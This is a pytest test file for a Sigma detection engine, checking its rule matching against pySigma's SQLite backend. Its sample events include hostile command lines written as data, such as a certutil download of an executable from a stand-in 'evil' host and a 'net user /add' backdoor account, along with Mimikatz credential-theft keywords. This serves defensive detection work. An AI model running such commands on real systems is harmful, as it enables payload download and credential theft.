"""Sigma semantics of the compiled matcher, checked against an independent engine: pySigma's SQLite backend run on
in-memory SQLite (untyped COLLATE NOCASE columns, Python re for REGEXP) — the "Zircolite method" SigmaHQ verifies
with — and, where SQL cannot express the event (lists, absent fields inside NOT, keywords), against the spec."""

from __future__ import annotations

import re
import sqlite3
import textwrap

import pytest
from sigma.backends.sqlite import sqliteBackend
from sigma.collection import SigmaCollection

from correlator.sigma.engine import Matcher, compile_rules
from correlator.sigma.loader import RuleSet

FIELDS = ["x.cmd", "x.img", "x.n", "x.ip", "x.user", "x.parent", "x.flag"]
EVENTS = [
    {"x.cmd": "C:\\Windows\\System32\\cmd.exe /c whoami", "x.img": "C:\\Windows\\System32\\cmd.exe", "x.n": 4,
     "x.ip": "10.1.2.3", "x.user": "alice", "x.parent": "alice"},
    {"x.cmd": "POWERSHELL.EXE -enc SQBFAFgA", "x.img": "C:\\Windows\\powershell.exe", "x.n": 10, "x.ip": "192.168.1.9",
     "x.user": "Bob", "x.parent": "carol"},
    {"x.cmd": "net user /add hacker", "x.img": "C:\\net.exe", "x.n": 0, "x.ip": "2001:db8::1", "x.user": "root"},
    {"x.cmd": "literal*star and ?question", "x.img": "a\\b", "x.n": 99, "x.user": "ALICE", "x.flag": "true"},
    {"x.cmd": "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"", "x.img": "C:\\rundll32.exe",
     "x.ip": "8.8.8.8", "x.n": 3},
    {"x.cmd": "certutil -urlcache -f http://evil/x.exe", "x.img": "C:\\Windows\\certutil.exe", "x.n": 2,
     "x.ip": "172.16.5.5", "x.user": "svc"},
    {"x.cmd": "cmd.exe –c dir", "x.img": "C:\\cmd.exe", "x.n": 7},  # en dash: windash
    {"x.cmd": "echo aGVsbG8gd29ybGQ= | base64", "x.img": "C:\\bin\\sh", "x.n": 5},
    {"x.cmd": "line1\nline2 secret", "x.img": "X", "x.n": 1, "x.ip": "not an ip"},
    {"x.img": "C:\\only_image.exe", "x.n": 11},
]

RULES = {
    "eq_case_insensitive": "x.user: alice",
    "wildcards": "x.img: 'c:\\windows\\\\*\\\\?md.exe'",
    "escaped_wildcard": "x.cmd: 'literal\\*star and \\?question'",
    "contains_all": "x.cmd|contains|all: ['cmd', 'whoami']",
    "startswith_list": "x.cmd|startswith: ['net ', 'certutil']",
    "endswith": "x.img|endswith: '\\powershell.exe'",
    "windash": "x.cmd|windash|contains: ' -c '",
    "base64offset": "x.cmd|base64offset|contains: 'hello world'",
    "base64": "x.cmd|base64|contains: 'hello world'",
    "wide_base64": "x.cmd|wide|base64offset|contains: 'IEX'",
    "cased": "x.user|cased: ALICE",
    "re_search": "x.cmd|re: 'user /add'",
    "re_case": "x.cmd|re: 'powershell'",
    "re_i": "x.cmd|re|i: 'powershell'",
    "re_anchor_m": "x.cmd|re|m: '^line2'",
    "re_dotall": "x.cmd|re|s: 'line1.line2'",
    "cidr": "x.ip|cidr: ['10.0.0.0/8', '172.16.0.0/12', '2001:db8::/32']",
    "gt": "x.n|gt: 9",
    "gte": "x.n|gte: 10",
    "lt": "x.n|lt: 2",
    "lte": "x.n|lte: 2",
    "exists": "x.user|exists: true",
    "not_exists": "x.user|exists: false",
    "fieldref": "x.user|fieldref: x.parent",
    "null_value": "x.ip: null",
    "number": "x.n: 99",
    "bool_string": "x.flag: 'true'",
    "star_any": "x.user: '*'",
    # many values of one field: compiled to one set / tuple / Aho-Corasick automaton
    "contains_many": "x.cmd|contains: ['whoami', 'URLCACHE', 'mshtml', 'zzz', 'yyy', 'secret']",
    "eq_many": "x.user: ['ALICE', 'bob', 'svc', 'nobody', 'x']",
    "startswith_many": "x.img|startswith: ['c:\\\\windows\\\\', 'X', 'q', 'r', 's']",
    "endswith_many": "x.img|endswith: ['.EXE', '\\\\sh', 'zz', 'yy', 'ww']",
}
COMPOUND = {
    "not_filter_on_absent_field": """
        sel:
            x.n|gte: 0
        filter:
            x.user: alice
        condition: sel and not filter""",
    "one_of": """
        a:
            x.img|endswith: '.exe'
        b:
            x.user: root
        c:
            x.n: 7
        condition: 1 of a* and not (b or c)""",
    "all_of_them": """
        s1:
            x.cmd|contains: 'cmd'
        s2:
            x.n|lt: 10
        condition: all of them""",
    "list_and_map_or": """
        sel:
            - x.user: bob
            - x.ip: '8.8.8.8'
        condition: sel""",
}


def rule_yaml(name: str, detection: str) -> str:
    det = textwrap.indent(textwrap.dedent(detection).strip(), "    ")
    return f"title: {name}\nid: 00000000-0000-4000-8000-{abs(hash(name)) % 10**12:012d}\nstatus: test\n" \
           f"logsource:\n    product: test\n    category: semantics\ndetection:\n{det}\nlevel: low\n"


ALL = {n: f"sel:\n    {d}\ncondition: sel" for n, d in RULES.items()} | COMPOUND


def oracle(detection_yaml: str) -> set[int]:
    """Indexes of EVENTS matched by pySigma's SQLite backend on an in-memory table."""
    col = SigmaCollection.from_yaml(detection_yaml)
    (query,) = sqliteBackend().convert(col)
    db = sqlite3.connect(":memory:")
    db.create_function("REGEXP", 2, lambda p, v: v is not None and re.search(p, str(v)) is not None)
    db.execute("CREATE TABLE logs (" + ", ".join(f'"{f}" COLLATE NOCASE' for f in FIELDS) + ")")
    for i, e in enumerate(EVENTS):
        db.execute("INSERT INTO logs (rowid, " + ", ".join(f'"{f}"' for f in FIELDS) + ") VALUES (?, "
                   + ", ".join("?" for _ in FIELDS) + ")", [i + 1] + [e.get(f) for f in FIELDS])
    rows = db.execute(query.replace("SELECT *", "SELECT rowid", 1)).fetchall()
    return {r[0] - 1 for r in rows}


@pytest.fixture(scope="module")
def matcher() -> tuple[Matcher, dict[str, int]]:
    rs = RuleSet()
    for name, det in ALL.items():
        rs.rules.extend(SigmaCollection.from_yaml(rule_yaml(name, det)).rules)
    compiled, failures = compile_rules(rs, "ecs")
    assert failures == []
    m = Matcher(compiled)
    return m, {info.title: i for i, info in enumerate(m.infos)}


@pytest.mark.parametrize("name", sorted(ALL))
def test_matches_sqlite_oracle(matcher, name: str) -> None:
    m, index = matcher
    got = {k for k, e in enumerate(EVENTS) if index[name] in m.match(e)}
    assert got == oracle(rule_yaml(name, ALL[name])), name
    assert got == {k for k, e in enumerate(EVENTS) if index[name] in m.match_all(e)}


def test_oracle_is_not_vacuous(matcher) -> None:
    """Most rules match something and nothing matches everything: the comparison above has teeth."""
    sizes = [len(oracle(rule_yaml(n, d))) for n, d in ALL.items()]
    assert sum(1 for s in sizes if s) >= len(ALL) - 2
    assert sum(1 for s in sizes if 0 < s < len(EVENTS)) >= len(ALL) - 3


def compile_one(detection: str) -> Matcher:
    rs = RuleSet(rules=list(SigmaCollection.from_yaml(rule_yaml("r", detection)).rules))
    compiled, failures = compile_rules(rs, "ecs")
    assert failures == []
    return Matcher(compiled)


def test_list_valued_fields_match_any_element() -> None:
    m = compile_one("sel:\n    related.ip|cidr: 10.0.0.0/8\n    event.category: network\ncondition: sel")
    assert m.match({"related.ip": ["8.8.8.8", "10.9.9.9"], "event.category": ["Network", "web"]}) == [0]
    assert m.match({"related.ip": ["8.8.8.8"], "event.category": ["network"]}) == []


def test_object_arrays_are_flattened_like_elasticsearch() -> None:
    m = compile_one("sel:\n    dns.answers.data|endswith: '.evil.test'\ncondition: sel")
    assert m.match({"dns.answers": [{"type": "CNAME", "data": "a.evil.test"}]}) == [0]
    assert m.match({"dns.answers": [{"type": "A", "data": "1.2.3.4"}]}) == []


def test_keywords_search_every_field_value() -> None:
    m = compile_one("keywords:\n    - '*mimikatz*'\n    - 'sekurlsa::*'\ncondition: keywords")
    assert m.match({"message": "ran Mimikatz today"}) == [0]
    assert m.match({"a": "x", "b": ["y", "SEKURLSA::logonpasswords"]}) == [0]
    assert m.match({"message": "benign"}) == []


def test_regex_keyword_is_case_sensitive() -> None:
    m = compile_one("keywords:\n    '|re': 'Invoke-[A-Z]'\ncondition: keywords")
    assert m.match({"message": "Invoke-Mimikatz"}) == [0]
    assert m.match({"message": "invoke-mimikatz"}) == []


def test_placeholders_expand_from_configuration() -> None:
    rs = RuleSet(rules=list(SigmaCollection.from_yaml(rule_yaml("p", "sel:\n    x.ip|expand: '%admins%'\n"
                                                                        "condition: sel")).rules))
    compiled, failures = compile_rules(rs, "ecs", {"admins": ["10.0.0.1", "10.0.0.2"]})
    assert failures == []
    m = Matcher(compiled)
    assert m.match({"x.ip": "10.0.0.2"}) == [0]
    assert m.match({"x.ip": "10.0.0.3"}) == []
    rs = RuleSet(rules=list(SigmaCollection.from_yaml(rule_yaml("p", "sel:\n    x.ip|expand: '%admins%'\n"
                                                                        "condition: sel")).rules))
    _, failures = compile_rules(rs, "ecs")
    assert [f.reason for f in failures] == ["unconfigured placeholder"]


def test_many_keywords_one_pass_over_all_values() -> None:
    m = compile_one("keywords:\n    - '*mimikatz*'\n    - '*sekurlsa*'\n    - '*kerberos::*'\n    - '*lsadump*'\n"
                    "    - '*crypto::*'\ncondition: keywords")
    assert m.match({"a": "x", "b": ["y", "LSADUMP::sam"]}) == [0]
    assert m.match({"n": 5, "message": "benign", "c": "crypto:"}) == []
    assert m.match({"a": "kerberos:", "b": ":ptt"}) == []  # never across two values


def test_plain_keyword_is_full_text_search() -> None:
    m = compile_one("keywords:\n    - 'exit signal Segmentation Fault'\ncondition: keywords")
    assert m.match({"message": "[notice] child pid 7 exit signal segmentation fault (11)"}) == [0]
    anchored = compile_one("keywords:\n    - 'GET *'\ncondition: keywords")
    assert anchored.match({"message": "GET /index.html"}) == [0]
    assert anchored.match({"message": "POST /x GET /y"}) == []
